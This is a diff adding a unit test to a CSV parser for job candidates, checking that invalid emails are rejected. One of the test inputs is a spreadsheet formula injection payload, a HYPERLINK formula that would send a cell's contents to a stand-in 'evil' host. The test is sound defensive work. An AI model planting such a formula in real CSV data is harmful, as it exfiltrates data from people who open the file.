@@ -57,4 +57,14 @@ describe(parseCandidatesCsv.name, () => {
       error: 'Row 2: each candidate needs a name and a valid email (got "No Email", "").',
     });
   });
+
+  it('refuses an email that only looks like one, such as a spreadsheet formula', () => {
+    for (const email of ['=HYPERLINK("http://evil/"&A1)@example.com', 'a b@example.com', 'a@b', '@example.com']) {
+      const parsed = parseCandidatesCsv(`name,email\nAda,"${email.replace(/"/g, '""')}"\n`);
+      expect(parsed).toEqual({ error: expect.stringMatching(/^Row 2: each candidate needs a name and a valid email/) });
+    }
+    expect(parseCandidatesCsv('name,email\nAda,ada.l@example.com\n')).toEqual({
+      candidates: [{ name: 'Ada', email: 'ada.l@example.com' }],
+    });
+  });
 });
